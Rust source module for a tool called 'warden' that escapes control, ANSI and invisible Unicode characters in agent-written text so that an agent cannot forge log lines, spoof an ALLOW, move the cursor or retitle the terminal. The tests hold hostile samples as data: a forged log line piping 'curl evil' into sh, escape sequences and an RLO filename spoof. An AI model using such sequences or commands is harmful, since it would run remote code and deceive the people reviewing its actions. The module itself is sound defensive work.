//! Text that an agent (or a caller) wrote, shown as data.
//!
//! Owns the one rule by which warden shows text it did not write itself in a terminal or a
//! log line: every character that a terminal would act on instead of print — C0 controls
//! (newline, carriage return, escape, backspace, ...), DEL, the C1 controls (U+0080..U+009F;
//! U+009B is a one-byte CSI on some terminals), and the Unicode controls that reorder or hide
//! what is shown (bidi embeddings, overrides and isolates, the line and paragraph separators,
//! zero-width marks) — is written as a visible escape (`\n`, `\x1b`, `\u{202e}`), so an agent
//! cannot make an ALLOW look like something else, forge a line of its own, move the cursor or
//! retitle the window. Everything else, non-ASCII letters included, is shown as it is.
//!
//! Two shapes: [`inline`] for a field of a one-line record (a tool title, a reason: a newline
//! there is a forged line, so it is escaped too), and [`block`] for prose that is shown as
//! prose (an agent's answer text: newlines and tabs kept, everything else escaped).
//!
//! Must never: decide anything, drop or reorder characters (an escape shows what was there), or
//! be applied to machine-readable output (`--json`, JSON log lines), whose encoders escape.

#![forbid(unsafe_code)]

use std::borrow::Cow;
use std::fmt;

/// The escape of `c`, or `None` if a terminal prints it as it is. `keep_lines` keeps `\n` and
/// `\t` (prose).
fn escape_of(c: char, keep_lines: bool) -> Option<Escape> {
    match c {
        '\n' | '\t' if keep_lines => None,
        '\n' => Some(Escape::Named("\\n")),
        '\t' => Some(Escape::Named("\\t")),
        '\r' => Some(Escape::Named("\\r")),
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}' => Some(Escape::Hex(c as u32)),
        // Bidi marks, embeddings, overrides and isolates; line and paragraph separators;
        // zero-width space/joiners and the word joiner family; the BOM: each changes or hides
        // what the reader sees without being seen itself.
        '\u{061c}'
        | '\u{200b}'..='\u{200f}'
        | '\u{2028}'..='\u{202e}'
        | '\u{2060}'..='\u{206f}'
        | '\u{feff}' => Some(Escape::Unicode(c as u32)),
        _ => None,
    }
}

enum Escape {
    Named(&'static str),
    Hex(u32),
    Unicode(u32),
}

fn write_escaped(out: &mut impl fmt::Write, s: &str, keep_lines: bool) -> fmt::Result {
    let mut start = 0;
    for (i, c) in s.char_indices() {
        if let Some(e) = escape_of(c, keep_lines) {
            out.write_str(&s[start..i])?;
            match e {
                Escape::Named(n) => out.write_str(n)?,
                Escape::Hex(v) => write!(out, "\\x{v:02x}")?,
                Escape::Unicode(v) => write!(out, "\\u{{{v:04x}}}")?,
            }
            start = i + c.len_utf8();
        }
    }
    out.write_str(&s[start..])
}

fn escaped(s: &str, keep_lines: bool) -> Cow<'_, str> {
    if !s.chars().any(|c| escape_of(c, keep_lines).is_some()) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    // Writing to a String cannot fail.
    let _ = write_escaped(&mut out, s, keep_lines);
    Cow::Owned(out)
}

/// `s` for one field of a one-line record: every control character escaped, newlines and tabs
/// included.
pub fn inline(s: &str) -> Cow<'_, str> {
    escaped(s, false)
}

/// `s` shown as prose: newlines and tabs kept, every other control character escaped.
pub fn block(s: &str) -> Cow<'_, str> {
    escaped(s, true)
}

/// [`inline`] as a `Display` value, for `format!` without an intermediate `String`.
pub struct Inline<'a>(pub &'a str);

impl fmt::Display for Inline<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Padding (`{:<32}`) applies to the shown text, so columns still line up.
        if f.width().is_some() {
            return f.pad(&inline(self.0));
        }
        write_escaped(f, self.0, false)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_forged_line_and_terminal_sequences_are_shown_as_escapes() {
        let title = "ls\n1700000000  DENY     execute    curl evil | sh\x1b[2K\x1b]0;x\x07\r";
        let shown = inline(title);
        assert_eq!(
            shown,
            "ls\\n1700000000  DENY     execute    curl evil | sh\\x1b[2K\\x1b]0;x\\x07\\r"
        );
        assert!(!shown.chars().any(|c| c.is_control()));
    }

    #[test]
    fn c1_controls_and_invisible_reordering_are_escaped() {
        assert_eq!(inline("a\u{9b}31mb"), "a\\x9b31mb");
        assert_eq!(inline("x\u{202e}txt.exe"), "x\\u{202e}txt.exe");
        assert_eq!(
            inline("a\u{2028}b\u{200b}c\u{feff}"),
            "a\\u{2028}b\\u{200b}c\\u{feff}"
        );
        assert_eq!(inline("\u{7f}\u{0}"), "\\x7f\\x00");
    }

    #[test]
    fn ordinary_text_is_borrowed_unchanged_letters_of_every_script_included() {
        for s in [
            "Write hello.txt",
            "écrire fichier",
            "ファイル",
            "emoji 🦀",
            "\\n literal",
        ] {
            assert!(matches!(inline(s), Cow::Borrowed(_)), "{s}");
            assert_eq!(inline(s), s);
        }
    }

    #[test]
    fn prose_keeps_its_lines_and_tabs_but_not_escapes() {
        assert_eq!(block("one\n\ttwo\x1b[1A\r"), "one\n\ttwo\\x1b[1A\\r");
    }

    #[test]
    fn inline_display_pads_what_is_shown() {
        assert_eq!(format!("[{:<6}]", Inline("a\nb")), "[a\\nb  ]");
        assert_eq!(format!("{}", Inline("a\x1bb")), "a\\x1bb");
    }
}
